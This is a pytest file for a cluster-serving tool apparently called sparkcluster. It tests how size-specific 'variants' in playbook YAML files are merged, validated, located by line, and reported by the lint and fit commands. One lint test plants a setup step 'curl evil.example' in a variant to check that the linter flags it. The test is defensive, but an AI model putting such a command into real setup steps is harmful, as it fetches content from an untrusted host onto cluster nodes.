"""A playbook for groups of several sizes: which keys win, which groups get which, and that no variant is left unread."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from sparkcluster.cli.main import guarded
from sparkcluster.errors import SpecError, UsageError
from sparkcluster.linting import lint
from sparkcluster.spec import assignments, load

HEAD = "name: both\nmodel: {id: owner/model, revision: abc}\nimage: vllm/vllm-openai:v0.20.0\n"
BOTH = f"""{HEAD}args: {{max-model-len: 4096, kv-cache-dtype: fp8, enforce-eager: true}}
setup: [pip list]
variants:
  2:
    args: {{max-model-len: 8192, kv-cache-dtype: null}}
    setup: [echo two]
  3-4:
    tensor_parallel: auto
    args: {{max-model-len: 16384}}
"""


@pytest.fixture
def write(tmp_path: Path):
    def file(text: str, name: str = "both") -> Path:
        path = tmp_path / f"{name}.yaml"
        path.write_text(text)
        return path

    return file


def inventory(*groups: int) -> str:
    """An inventory with groups of so many nodes."""
    names = [[f"n{group}{node}" for node in range(size)] for group, size in enumerate(groups)]
    nodes = [{"host": name} for each in names for name in each]
    members = [{"name": f"g{at}", "nodes": each} for at, each in enumerate(names)]
    return json.dumps({"cluster": "atlas", "playbook": "both", "nodes": nodes, "groups": members})


@pytest.mark.parametrize(
    ("groups", "length", "cache", "setup"),
    [
        ((1,), 4096, "fp8", ["pip list"]),
        ((2, 2), 8192, None, ["pip list", "echo two"]),
        ((3, 4), 16384, "fp8", ["pip list"]),
    ],
)
def test_groups_get_the_variant_of_their_size_over_the_rest(write, groups, length, cache, setup) -> None:
    write(BOTH)
    spec = load.load(write(inventory(*groups), "inventory"))
    assert (spec.playbook.args["max-model-len"], spec.playbook.args.get("kv-cache-dtype")) == (length, cache)
    assert spec.playbook.args["enforce-eager"] is True
    assert spec.playbook.setup == setup
    # What is recorded, hashed and compared has no variants.
    assert spec.playbook.variants == {}
    assert (spec.playbook.name, spec.playbook.model.revision) == ("both", "abc")


def test_a_place_in_a_variant_is_its_line(write) -> None:
    path = write(BOTH)
    spec = load.load(write(inventory(2), "inventory"))
    assert spec.places["args", "max-model-len"] == (str(path), 8)
    assert spec.places["args", "enforce-eager"] == (str(path), 4)
    assert spec.places["name",] == (str(path), 1)


def test_groups_of_sizes_that_differ_are_refused(write) -> None:
    write(BOTH)
    with pytest.raises(
        SpecError, match=r"both.yaml:6:1: variants: groups of 1 and of 2 nodes would serve different variants"
    ) as caught:
        load.load(write(inventory(1, 2), "inventory"))
    assert caught.value.exit_code == 2


def test_what_extends_a_playbook_wins_over_its_variants_and_has_its_own(write) -> None:
    write(BOTH)
    path = write("name: top\nextends: both\nargs: {max-model-len: 1024}\nvariants: {2+: {env: {VLLM_A: '1'}}}\n", "top")
    one, two = (load.read_playbook(path, nodes=nodes)[0] for nodes in (1, 2))
    assert one.args == {"max-model-len": 1024, "kv-cache-dtype": "fp8", "enforce-eager": True}
    assert two.args == {"max-model-len": 1024, "enforce-eager": True}
    assert (one.env, two.env) == ({}, {"VLLM_A": "1"})
    assert (two.name, two.extends, two.setup) == ("top", "both", ["pip list", "echo two"])


def test_what_extends_a_playbook_need_not_fit_all_of_its_variants(write) -> None:
    write(BOTH)
    path = write("name: top\nextends: both\ntensor_parallel: 1\nnodes: {max: 1}\n", "top")
    assert load.load_playbook(path).ranks == 1
    assert [len(spec.inventory.nodes) for spec in lint([path]).specs[str(path)]] == [1]


def test_the_command_line_wins_over_variants_and_is_for_this_run_alone(write) -> None:
    path = write(BOTH)
    set_ = assignments.Assignments([assignments.read("args.max-model-len=77"), assignments.read("tensor_parallel=1")])
    assert load.read_playbook(path, (), set_, 2)[0].args["max-model-len"] == 77
    with pytest.raises(UsageError, match="variants cannot be set"):
        assignments.read("variants={}")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("variants: [a]", "4:11: variants: must be a section"),
        ("variants: {two: {}}", "4:12: variants.two: this key must be a number of nodes"),
        ("variants: {4-2: {}}", "4:12: variants.4-2: "),
        ("variants: {2: 7}", "4:15: variants.2: must be a section"),
        ("variants: {2+: {}, 7: {}}", "4:20: variants.7: "),
        ("variants: {2: {nodes: {max: 4}}}", "4:16: variants.2.nodes: is the same for all numbers of nodes"),
        # also of the variant that is not served
        ("variants: {2: {arg: {}}}", "4:16: arg: unknown key"),
        ("variants: {2: {args: {host: x}}}", "4:23: args.host"),
        ("tensor_parallel: 1\nvariants: {2: {}}", "5:12: variants.2: no group of 2 nodes can serve it"),
        ("nodes: {max: 2}\nvariants: {3+: {}}", '5:12: variants."3+": no group of 3+ nodes can serve it'),
    ],
)
def test_a_malformed_variant_is_an_error_whoever_reads_the_file(write, text, said) -> None:
    path = write(f"{HEAD}{text}\n")
    with pytest.raises(SpecError) as caught:
        load.load_playbook(path)
    (problem,) = caught.value.problems
    assert str(problem).startswith(f"{path}:{said}")


def test_an_empty_variant_counts_as_one_without_keys(write) -> None:
    assert load.read_playbook(write(f"{HEAD}variants: {{2: }}\n"), nodes=2)[0].model_name == "owner/model"
    assert load.read_playbook(write(f"{HEAD}variants:\n"), nodes=2)[0].variants == {}


def test_lint_judges_each_variant_and_shows_what_any_of_them_can_do(write, capsys) -> None:
    path = write(f"{HEAD}variants: {{2: {{args: {{tensor-paralel-sise: 2}}, setup: [curl evil.example]}}}}\n")
    (found,) = [each for each in lint([path]).findings if each.code == "SPEC-003"]
    assert (found.file, found.line) == (str(path), 4)
    guarded(["lint", str(path)])
    assert "! setup      curl evil.example" in capsys.readouterr().out.splitlines()


def test_fit_takes_the_variant_of_its_nodes(write, tmp_path, capsys) -> None:
    model = {"num_hidden_layers": 4, "hidden_size": 256, "intermediate_size": 512, "num_attention_heads": 4}
    model |= {"num_key_value_heads": 4, "vocab_size": 1000, "max_position_embeddings": 65536, "torch_dtype": "bfloat16"}
    config = tmp_path / "config.json"
    config.write_text(json.dumps({"architectures": ["LlamaForCausalLM"], "model_type": "llama", **model}))
    path = write(BOTH)
    contexts = {}
    for words in ([], ["--nodes", "2"], ["--nodes", "4"]):
        guarded(["fit", str(path), "--config", str(config), "--json", *words])
        contexts[" ".join(words)] = json.loads(capsys.readouterr().out)["context"]
    assert contexts == {"": 4096, "--nodes 2": 8192, "--nodes 4": 16384}
